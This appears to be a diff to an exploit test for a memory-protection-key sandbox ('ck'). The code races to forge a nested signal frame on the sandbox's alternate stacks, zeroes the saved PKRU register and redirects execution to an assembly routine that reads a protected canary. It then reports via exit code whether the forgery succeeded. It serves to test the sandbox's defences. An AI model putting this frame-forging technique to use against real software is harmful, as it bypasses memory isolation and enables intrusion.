@@ -88,24 +88,27 @@ static int copyfault(void)
 #define MC_OFF		40	/* uc_mcontext in it */
 
 static volatile int forge, forging, calm, handled, a_tid;
-static uint64_t canary_addr;
-static char win_stack[64 * 1024] __attribute__((aligned(16)));
+uint64_t canary_addr;
 static int pipefd[2];
 extern const char a_read_ret[];
 
-/* Runs only if a forged frame was restored: every key open, no ck. */
-static void __attribute__((noreturn, used)) win(void)
-{
-	static const char msg[] = "ORACLE: ck resumed a forged nested frame: "
-				  "ck_canary read\n";
-	volatile uint64_t *c = (volatile uint64_t *)canary_addr;
-
-	if (*c == CANARY)
-		syscall(SYS_write, 1, msg, sizeof(msg) - 1);
-	syscall(SYS_exit_group, 0);
-	for (;;)
-		;
-}
+/*
+ * Runs only if a forged frame was restored: PKRU 0, ck's stack and
+ * registers. No stack use: exit 42 if ck_canary was read, 43 if not.
+ */
+void win(void);
+__asm__(".text\n"
+	"win:\n"
+	"	movq canary_addr(%rip), %rax\n"
+	"	movq (%rax), %rax\n"
+	"	movabsq $0x63616e6172794b21, %rcx\n"
+	"	movl $43, %edi\n"
+	"	cmpq %rcx, %rax\n"
+	"	jne 1f\n"
+	"	movl $42, %edi\n"
+	"1:	movl $231, %eax\n"	/* exit_group: the selector is ALLOW */
+	"	syscall\n"
+	"	ud2\n");
 
 static void on_usr1(int sig)
 {
@@ -134,45 +137,45 @@ static void *victim(void *arg)
 	return (void *)r;
 }
 
-/* A's SIGSYS frame on one of the 64 KiB pkey-0 anonymous mappings. */
+/*
+ * A's SIGSYS frame on one of the 64 KiB anonymous rw mappings of pkey 0
+ * (smaps's ProtectionKey, where the kernel has pkeys): ck's altstacks.
+ */
 static uint8_t *find_frame(void)
 {
 	FILE *f = fopen("/proc/self/smaps", "r");
+	uint64_t lo[64], hi[64], p;
+	int n = 0, i, cand = 0, pk;
 	char line[256];
-	uint64_t lo = 0, hi = 0, p;
-	int cand = 0;
 
 	if (!f)
 		return 0;
 	while (fgets(line, sizeof(line), f)) {
 		unsigned long a, b;
 		char perm[8];
-		int pk;
 
 		if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) == 3 &&
 		    strchr(line, '-') < strchr(line, ' ')) {
-			lo = a;
-			hi = b;
 			cand = b - a == 0x10000 && !strcmp(perm, "rw-p") &&
-			       strstr(line, " 00:00 0");
-			continue;
-		}
-		if (!cand || sscanf(line, "ProtectionKey: %d", &pk) != 1)
-			continue;
-		cand = 0;
-		if (pk)
-			continue;
-		for (p = hi - 128; p >= lo + UC_SIZE; p -= 8) {
-			const int32_t *i = (const int32_t *)p;
-
-			if (i[0] == SIGSYS && i[2] == 2 &&
-			    *(const uint64_t *)(p + 16) == (uint64_t)a_read_ret) {
-				fclose(f);
-				return (uint8_t *)p - UC_SIZE;
+			       strstr(line, " 00:00 0") && n < 64;
+			if (cand) {
+				lo[n] = a;
+				hi[n++] = b;
 			}
+			continue;
 		}
+		if (cand && sscanf(line, "ProtectionKey: %d", &pk) == 1 && pk)
+			n--;	/* ck's own memory: reading it would fault */
 	}
 	fclose(f);
+	for (i = 0; i < n; i++)
+		for (p = hi[i] - 128; p >= lo[i] + UC_SIZE; p -= 8) {
+			const int32_t *si = (const int32_t *)p;
+
+			if (si[0] == SIGSYS && si[2] == 2 &&
+			    *(const uint64_t *)(p + 16) == (uint64_t)a_read_ret)
+				return (uint8_t *)p - UC_SIZE;
+		}
 	return 0;
 }
 
@@ -188,12 +191,12 @@ static void *forger(void *arg)
 		while (!forge)
 			;
 		forging = 1;
+		/* PKRU, then RIP (a frame caught half-way may just go on). */
 		while (forge) {
-			mc[15] = (uint64_t)(win_stack + sizeof(win_stack) - 8);
-			mc[16] = (uint64_t)win;
 			fp = mc[23];
 			if (fp && pkru_off)
 				*(volatile uint32_t *)(fp + pkru_off) = 0;
+			((volatile uint64_t *)mc)[16] = (uint64_t)win;
 		}
 		forging = 0;
 	}
@@ -207,7 +210,7 @@ static void ms(long n)
 	nanosleep(&t, 0);
 }
 
-static int altstack(void)
+static int altstack_child(void)
 {
 	unsigned int a, b, c, d;
 	struct sigaction sa;
@@ -219,7 +222,8 @@ static int altstack(void)
 	if (__get_cpuid_count(0xd, 9, &a, &b, &c, &d))
 		pkru_off = b;
 	memset(&sa, 0, sizeof(sa));
-	sa.sa_handler = on_usr1;	/* no SA_RESTART: the kernel rewinds anyway */
+	sa.sa_handler = on_usr1;
+	sa.sa_flags = SA_RESTART;	/* the read goes on after each handler */
 	sigaction(SIGUSR1, &sa, 0);
 	if (pipe(pipefd) || pthread_create(&ta, 0, victim, 0))
 		return 2;
@@ -250,9 +254,37 @@ static int altstack(void)
 	if (write(pipefd[1], "x", 1) != 1)
 		return 2;
 	pthread_join(ta, &ret);
-	atk_say("blocked", "%d signals ended A's read (%d handled), each nested "
+	atk_say("try", "%d signals ended A's read (%d handled), each nested "
 		"frame rewritten; the read returned %ld", round, (int)handled,
 		(long)ret);
+	return 0;
+}
+
+/* Up to 5 tries, each a fork child (a half-forged frame can kill one). */
+static int altstack(void)
+{
+	int i, st, killed = 0;
+	pid_t pid;
+
+	for (i = 0; i < 5; i++) {
+		fflush(stdout);
+		pid = fork();
+		if (pid == 0)
+			_exit(altstack_child());
+		if (pid < 0 || waitpid(pid, &st, 0) != pid)
+			return 2;
+		if (WIFEXITED(st) && WEXITSTATUS(st) == 42) {
+			atk_say("ORACLE", "ck resumed a forged nested frame: "
+				"ck_canary read with PKRU 0 (try %d)", i + 1);
+			return 0;
+		}
+		if (WIFEXITED(st) && WEXITSTATUS(st) == 2)
+			return 2;
+		if (WIFSIGNALED(st))
+			killed = WTERMSIG(st);
+	}
+	atk_say("blocked", "5 tries, no forged frame resumed (last killed "
+		"by signal %d)", killed);
 	return 0;
 }
 
